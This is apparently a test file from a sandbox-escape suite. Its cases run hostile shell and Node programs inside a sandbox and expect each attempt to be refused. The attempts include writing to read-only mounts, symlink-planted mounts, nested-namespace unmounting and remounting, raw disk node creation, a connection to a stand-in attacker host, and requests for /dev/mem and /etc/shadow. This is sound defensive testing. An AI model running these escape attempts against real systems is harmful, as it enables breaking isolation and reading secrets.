/** Threat: what a policy grants (devices, namespaces, a home) leads further than it says. */
import { symlinkSync } from "node:fs";
import { join } from "node:path";
import { SANDBOX_WORK } from "@creel/sandbox";
import { groupOf, node, sh } from "../attack.ts";
import { openSandbox, own } from "../contenders/creel.ts";
import type { Case } from "../model.ts";
import { BEGAN } from "../stage.ts";
import { all, keptSecret, neverPrints, prints, refused } from "../witness.ts";

const attack = groupOf("profiles", ["profiles"]);
/** The script names each place it managed to write. */
const tries = (...lines: string[]) =>
  sh(
    `cd "$WORK"\n${lines.map((line) => `( ${line} ) 2>/dev/null && echo "WROTE by ${line.replaceAll('"', "'").replaceAll("$", "")}"`).join("\n")}\ntrue`,
  );

export const profilesRoots: Case[] = [
  attack("prof-readonly", "writes into a workspace that is mounted read-only", {
    promise: "files-write",
    run: async (stage, test) => {
      const work = stage.workspace(`ro-${Date.now()}`);
      const sandbox = await openSandbox(stage, { mounts: [{ source: work, target: SANDBOX_WORK, mode: "ro" }] });
      try {
        return await sandbox.run(test);
      } finally {
        await sandbox.end();
      }
    },
    program: tries("echo x > a", "mkdir b", "ln -s a c", "chmod 777 .", "touch ."),
    expect: neverPrints(/WROTE/),
  }),
  attack("prof-landlock", "goes beyond the paths that the policy names", {
    promise: "files-read",
    run: own({
      readOnly: ["/usr", "/bin", "/lib", "/lib64", "/opt"].filter((path) => path !== "/none"),
      readWrite: ["/tmp"],
    }),
    program: sh(
      "cat /etc/ssl/openssl.cnf /etc/os-release >/dev/null 2>&1 && echo READ; (echo x > /sandbox/x) 2>/dev/null && echo WROTE; (echo x > /dev/shm/x && mv /dev/shm/x /tmp/x2); echo x > /tmp/x && echo FINE",
    ),
    expect: all(prints(/FINE/), neverPrints(/READ|WROTE/)),
  }),
  attack("prof-hard", "a policy demands a path that is not there, and strictness", {
    promise: "fail-closed",
    program: sh("true"),
    run: async (stage) => {
      const answer = await openSandbox(stage, {
        readOnly: ["/usr", "/no/such/path"],
        landlock: "hard_requirement",
      }).then(
        async (sandbox) => {
          await sandbox.end();
          return "STARTED";
        },
        (error: Error) => `refused: ${error.message}`,
      );
      return { code: 0, out: `${BEGAN}\n${answer}` };
    },
    expect: prints(/refused: .*no\/such\/path/),
  }),
  attack("prof-planted-mount", "plants a link in its home so that the next start mounts over trusted programs", {
    promise: "fail-closed",
    program: sh("true"),
    run: async (stage) => {
      const home = stage.workspace(`home-${Date.now()}`);
      symlinkSync("/usr/bin", join(home, "work"));
      const answer = await openSandbox(stage, {
        mounts: [
          { source: home, target: "/sandbox", mode: "rw" },
          { source: stage.workspace(`w-${Date.now()}`), target: SANDBOX_WORK, mode: "rw" },
        ],
      }).then(
        async (sandbox) => {
          await sandbox.end();
          return "STARTED";
        },
        (error: Error) => `refused: ${error.message}`,
      );
      return { code: 0, out: `${BEGAN}\n${answer}` };
    },
    expect: prints(/refused/),
  }),
  attack("prof-generated-file", "replaces a generated file through its own writable home", {
    promise: "programs-unwritable",
    run: (stage, test) => {
      const home = stage.workspace(`gen-${Date.now()}`);
      return own({
        mounts: [
          { source: home, target: "/sandbox", mode: "rw" },
          { source: stage.workspace(`genw-${Date.now()}`), target: SANDBOX_WORK, mode: "rw" },
        ],
        files: [{ path: "/sandbox/settings.json", content: "{}\n" }],
      })(stage, test);
    },
    program: tries(
      "echo x > /sandbox/settings.json",
      "rm -f /sandbox/settings.json && [ ! -e /sandbox/settings.json ]",
      "mv /sandbox/settings.json /sandbox/s2",
      "cp -r /sandbox /tmp/s && mv /sandbox /tmp/old",
      "ln -sf /tmp/x /sandbox/settings.json",
    ),
    expect: neverPrints(/WROTE/),
  }),
  attack("prof-nested", "uses the namespaces that it was granted to look for the host", {
    promise: "nested",
    run: own({ nestedUserns: true }),
    program: sh(
      'unshare -Urmpf --mount-proc sh -c \'id -u; mkdir -p /tmp/m; mount -t tmpfs x /tmp/m; cat "$HOST_DIR/secret"; umount -l /proc; umount -l /usr; umount -l /; ls /proc/1/root/; mount -o remount,rw /usr && (: > /usr/planted) && echo WROTE; cat "$HOST_DIR/secret"; mknod /tmp/m/sda b 8 0 && head -c 1 /tmp/m/sda && echo DISK\'; "$TOOLS/calls" signal_pid "$VICTIM_PID" 9; unshare -Urn sh -c \'"$TOOLS/calls" connect evil.creel.example 443 x\'',
    ),
    expect: all(keptSecret, neverPrints(/WROTE|DISK/)),
  }),
  attack("prof-nested-off", "asks for namespaces where the profile does not grant them", {
    promise: "kernel-surface",
    run: own({}),
    program: sh('"$TOOLS/attacks" unshare_user; "$TOOLS/attacks" clone_user'),
    expect: refused,
  }),
  attack("prof-devices-none", "looks for graphics and other devices where no policy grants them", {
    promise: "devices",
    program: sh(
      "ls /dev/nvidia* /dev/dri /dev/kfd /dev/video* /dev/snd /dev/input /dev/bus 2>/dev/null && echo FOUND; ls /dev; true",
    ),
    expect: neverPrints(/FOUND|sda|mem\b|kmsg/),
  }),
  attack("prof-devices-forbidden", "a policy asks for the machine's memory as a device", {
    promise: "devices",
    program: sh("true"),
    run: async (stage) => {
      const answers: string[] = [];
      for (const device of [
        "/dev/mem",
        "/dev/kmsg",
        "/dev/sda",
        "/dev/../etc/shadow",
        "/dev/net/tun",
        "/dev/null/../mem",
        "/etc/passwd",
      ])
        answers.push(
          await openSandbox(stage, { devices: [device] }).then(
            async (sandbox) => {
              await sandbox.end();
              return `STARTED with ${device}`;
            },
            () => "refused",
          ),
        );
      return { code: 0, out: `${BEGAN}\n${answers.join("\n")}` };
    },
    expect: all(neverPrints(/STARTED/), prints(/refused/)),
  }),
  attack("prof-device-write", "writes the devices that everybody has, as if they were files", {
    promise: "devices",
    program: node(
      `for (const d of ["null", "zero", "full", "random", "urandom", "tty"]) try { fs.renameSync("/dev/" + d, "/dev/x"); say("WROTE"); } catch (e) { say(e.code); } try { fs.writeFileSync("/dev/planted", "x"); say("WROTE"); } catch (e) { say(e.code); }`,
    ),
    expect: neverPrints(/WROTE/),
  }),
];
